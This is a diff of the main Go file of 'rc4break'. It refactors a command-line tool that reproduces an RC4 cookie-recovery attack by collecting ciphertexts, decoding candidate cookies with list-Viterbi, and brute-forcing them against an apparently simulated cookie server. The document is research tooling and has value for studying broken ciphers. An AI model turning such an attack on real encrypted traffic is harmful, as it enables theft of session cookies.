@@ -55,7 +55,7 @@ import (
 	"flag"
 	"fmt"
 	"os"
-	"time"
+	"slices"
 
 	"rc4break/internal/cliutil"
 	"rc4break/internal/cookieattack"
@@ -63,7 +63,6 @@ import (
 	"rc4break/internal/job"
 	"rc4break/internal/netsim"
 	"rc4break/internal/online"
-	"rc4break/internal/snapshot"
 	"rc4break/internal/trace"
 )
 
@@ -122,200 +121,34 @@ func main() {
 		}
 		return
 	}
-	if *onlineMode {
-		if *collectOnly || *merge != "" {
-			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
-		}
-		if spec.Traces != nil {
-			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
-		}
-	}
-
-	var evidence []byte
-	if *resume != "" {
-		if evidence, err = os.ReadFile(*resume); err != nil {
-			fatal(fmt.Errorf("resume %s: %w", *resume, err))
-		}
-	}
-	rt, err := job.New(spec, evidence)
+	rt, err := job.Resume(spec, *resume)
 	if err != nil {
 		fatal(err)
 	}
-	if *resume != "" {
-		fmt.Printf("      resumed %s: %d records of evidence\n", *resume, rt.Observed())
-	}
-	attack := rt.Decoder.(*cookieattack.Attack)
-	anchors := attack.AnchorsPerPair()
-	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))
+	anchors := rt.Decoder.(*cookieattack.Attack).AnchorsPerPair()
+	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", slices.Min(anchors), slices.Max(anchors))
 
-	if *onlineMode {
-		depth := *maxPerRound
-		if depth <= 0 {
-			depth = *candidates
-		}
-		runOnline(rt, *secret, *mode, *ciphertexts,
-			online.Cadence{First: *firstDecode, Every: *decodeEvery},
-			depth, *checkpoint, *checkpointEvery, *jsonOut)
-		return
-	}
-
-	var remaining uint64
-	if *ciphertexts > attack.Records {
-		remaining = *ciphertexts - attack.Records
-	}
-	displayMode := *mode
-	if spec.Traces != nil {
-		displayMode = "trace"
-	}
-	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
-		remaining, displayMode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
-		netsim.HTTPSRequestsPerSecond)
-	start := time.Now()
-	if remaining == 0 {
-		fmt.Println("      shard target already reached by resumed evidence")
-	} else if err := rt.Checkpointed(*checkpoint, *checkpointEvery)(*ciphertexts); err != nil {
-		fatal(err)
-	}
-	if summary := rt.Summary(); summary != "" {
-		fmt.Printf("      %s\n", summary)
-	}
-	collectTime := time.Since(start)
-	fmt.Printf("      collected in %v (shard evidence: %d records)\n",
-		collectTime.Round(time.Millisecond), attack.Records)
-
-	if *checkpoint != "" {
-		if err := rt.SaveFile(*checkpoint); err != nil {
-			fatal(err)
-		}
-		fmt.Printf("      snapshot -> %s\n", *checkpoint)
-	}
-
-	// Shards that captured the same stream (same mode and seed) hold the
-	// same observations; merging them would double-count evidence.
-	seenStreams := make(map[snapshot.StreamInfo]string)
-	if attack.Records > 0 && attack.Stream != (snapshot.StreamInfo{}) {
-		seenStreams[attack.Stream] = "this shard"
-	}
-	for _, path := range cliutil.SplitList(*merge) {
-		shard, err := cookieattack.ReadSnapshotFile(path)
-		if err != nil {
-			fatal(fmt.Errorf("merge %s: %w", path, err))
-		}
-		if shard.Stream != (snapshot.StreamInfo{}) {
-			if prev, dup := seenStreams[shard.Stream]; dup {
-				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its records would be double-counted",
-					path, shard.Stream.Mode, shard.Stream.Seed, prev))
+	err = job.CLI{
+		Budget: *ciphertexts, Depth: *candidates, RoundDepth: *maxPerRound,
+		Checkpoint: *checkpoint, CheckpointEvery: *checkpointEvery,
+		Merge: cliutil.SplitList(*merge), CollectOnly: *collectOnly,
+		Online: *onlineMode, Cadence: online.Cadence{First: *firstDecode, Every: *decodeEvery},
+		JSON: *jsonOut,
+		Live: func(n uint64) string {
+			return fmt.Sprintf("%.1f h of traffic at %d req/s", float64(n)/netsim.HTTPSRequestsPerSecond/3600, netsim.HTTPSRequestsPerSecond)
+		},
+		Recovered: func(res online.Result) []byte {
+			fmt.Printf("[4/4] server accepted cookie %q (%d checks: %.1f s at %d checks/s live)\n", res.Plaintext,
+				res.Checks, float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
+			if string(res.Plaintext) == *secret {
+				fmt.Println("      recovered cookie matches the secret — attack complete")
 			}
-			seenStreams[shard.Stream] = path
-		}
-		if err := attack.Merge(shard); err != nil {
-			fatal(fmt.Errorf("merge %s: %w", path, err))
-		}
-		fmt.Printf("      merged %s: +%d records (pool now %d)\n", path, shard.Records, attack.Records)
-	}
-
-	if *collectOnly {
-		fmt.Println("      collect-only: skipping recovery phase")
-		return
-	}
-
-	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
-	server := rt.Oracle.(*netsim.CookieServer)
-	start = time.Now()
-	cands, err := attack.Candidates(*candidates)
-	decodeTime := time.Since(start)
+			return res.Plaintext
+		},
+	}.Run(rt)
 	if err != nil {
 		fatal(err)
 	}
-	start = time.Now()
-	cookie, rank, err := cookieattack.WalkCandidates(cands, server.Check)
-	oracleTime := time.Since(start)
-	result := cliutil.RunResult{
-		Attack:       "cookie",
-		Mode:         displayMode,
-		Success:      err == nil,
-		Rank:         rank,
-		Observations: attack.Records,
-		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
-		DecodeMS:     float64(decodeTime.Microseconds()) / 1000,
-		OracleMS:     float64(oracleTime.Microseconds()) / 1000,
-		ElapsedMS:    float64((collectTime + decodeTime + oracleTime).Microseconds()) / 1000,
-	}
-	if err != nil {
-		result.Error = err.Error()
-		fmt.Printf("      attack failed: %v (try more ciphertexts or a deeper list)\n", err)
-		emitJSON(*jsonOut, result)
-		os.Exit(1)
-	}
-	result.Plaintext = fmt.Sprintf("%x", cookie)
-
-	fmt.Printf("[4/4] brute-forced in %v: cookie %q at list position %d (%d server checks, %.1f s at %d checks/s live)\n",
-		(decodeTime + oracleTime).Round(time.Millisecond), cookie, rank, server.Attempts,
-		float64(server.Attempts)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
-	if string(cookie) == *secret {
-		fmt.Println("      recovered cookie matches the secret — attack complete")
-	}
-	emitJSON(*jsonOut, result)
-}
-
-// emitJSON writes the machine-readable result as the final stdout line
-// when -json is set.
-func emitJSON(enabled bool, r cliutil.RunResult) {
-	if err := r.Emit(enabled); err != nil {
-		fatal(err)
-	}
-}
-
-// runOnline drives the §6.2 closed loop: capture to the next cadence point
-// (model-mode sufficient statistics or exact records through the scanner),
-// decode the candidate list, brute-force it against the server, and stop at
-// the first confirmed cookie. Decode points are absolute record counts, so
-// a checkpointed run that is killed and resumed (-checkpoint/-resume)
-// continues on exactly the cadence an uninterrupted run would use.
-func runOnline(rt *job.Runtime, secret, mode string, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
-	if budget <= rt.Observed() {
-		fatal(fmt.Errorf("online: budget %d already reached by resumed evidence (%d records)", budget, rt.Observed()))
-	}
-	fmt.Printf("[2/3] online closed loop: budget %d records, first decode at %d, %s cadence, %d candidates/round...\n",
-		budget, cad.First, cad, depth)
-	res, err := online.Run(online.Config{
-		Decoder:       rt.Decoder,
-		Oracle:        rt.Oracle,
-		Cadence:       cad,
-		MaxCandidates: depth,
-		Budget:        budget,
-		Feed:          online.FeedFunc(rt.Checkpointed(checkpoint, checkpointEvery)),
-		Checkpoint:    cliutil.OnlineCheckpoint(checkpoint, rt.Unit, rt.SaveFile, rt.Observed),
-		Logf:          cliutil.IndentLogf,
-	})
-	if errors.Is(err, cliutil.ErrInterrupted) {
-		fatal(err)
-	}
-	if err != nil {
-		fmt.Printf("      online attack failed: %v (budget %d records; try a deeper list or a larger budget)\n", err, budget)
-		emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, err))
-		os.Exit(1)
-	}
-	if checkpoint != "" {
-		if err := rt.SaveFile(checkpoint); err != nil {
-			fatal(err)
-		}
-	}
-	saved := budget - res.Observed
-	fmt.Printf("[3/3] online success: cookie %q at rank %d after %d records — %d under the %d budget (%.1f h of capture saved)\n",
-		res.Plaintext, res.Rank, res.Observed, saved, budget,
-		float64(saved)/netsim.HTTPSRequestsPerSecond/3600)
-	fmt.Printf("      %d decode rounds, %d server checks (+%d cache-skipped), %.1f h of traffic at %d req/s, %.1f s of checks at %d checks/s\n",
-		res.Rounds, res.Checks, res.Skipped,
-		float64(res.Observed)/netsim.HTTPSRequestsPerSecond/3600, netsim.HTTPSRequestsPerSecond,
-		float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
-	fmt.Printf("      wall-clock %v (capture %v, decode %v, oracle %v)\n",
-		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
-		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
-	if string(res.Plaintext) == secret {
-		fmt.Println("      recovered cookie matches the secret — attack complete")
-	}
-	emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, nil))
 }
 
 // writeCookiePcap writes n records of the seed-derived exact-mode victim
@@ -351,26 +184,6 @@ func writeCookiePcap(path string, req httpmodel.Request, seed int64, n uint64) e
 	}
 	fmt.Printf("      %d records, %.1f MB\n", n, float64(info.Size())/(1<<20))
 	return nil
-}
-
-func minInt(xs []int) int {
-	m := xs[0]
-	for _, x := range xs {
-		if x < m {
-			m = x
-		}
-	}
-	return m
-}
-
-func maxInt(xs []int) int {
-	m := xs[0]
-	for _, x := range xs {
-		if x > m {
-			m = x
-		}
-	}
-	return m
 }
 
 // fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
